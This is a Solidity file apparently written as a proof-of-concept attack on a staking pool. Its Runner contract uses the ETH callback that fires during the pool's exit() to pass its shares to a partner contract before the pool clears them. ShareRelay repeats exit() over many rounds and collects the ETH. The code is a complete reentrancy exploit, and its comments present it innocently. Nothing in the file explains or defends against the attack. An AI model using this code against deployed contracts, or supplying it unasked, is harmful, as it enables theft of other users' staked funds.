// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IStakingPool {
    function stake() external payable;

    function exit() external;

    function balanceOf(address account) external view returns (uint256);

    function transfer(address to, uint256 value) external returns (bool);

    function approve(address spender, uint256 value) external returns (bool);

    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Two accounts that pass the same shares between them.
contract ShareRelay {
    IStakingPool immutable pool;
    Runner immutable first;
    Runner immutable second;

    constructor(IStakingPool pool_, bool byAllowance) {
        pool = pool_;
        first = new Runner(pool_, byAllowance);
        second = new Runner(pool_, byAllowance);
        first.meet(second);
        second.meet(first);
    }

    function run(uint256 rounds) external payable {
        first.stake{value: msg.value}();
        for (uint256 i = 0; i < rounds; i++) (i % 2 == 0 ? first : second).leave(true);
        (rounds % 2 == 0 ? first : second).leave(false);
        first.forward(payable(msg.sender));
        second.forward(payable(msg.sender));
    }
}

/// Hands its shares on while exit() is paying for them.
contract Runner {
    IStakingPool immutable pool;
    bool immutable byAllowance;
    Runner partner;
    bool passing;

    constructor(IStakingPool pool_, bool byAllowance_) {
        pool = pool_;
        byAllowance = byAllowance_;
    }

    function meet(Runner partner_) external {
        partner = partner_;
    }

    function stake() external payable {
        pool.stake{value: msg.value}();
    }

    function leave(bool passing_) external {
        passing = passing_;
        pool.exit();
    }

    function take(uint256 value) external {
        pool.transferFrom(msg.sender, address(this), value);
    }

    function forward(address payable to) external {
        to.transfer(address(this).balance);
    }

    receive() external payable {
        if (!passing) return;
        uint256 shares = pool.balanceOf(address(this));
        if (byAllowance) {
            pool.approve(address(partner), shares);
            partner.take(shares);
        } else {
            pool.transfer(address(partner), shares);
        }
    }
}
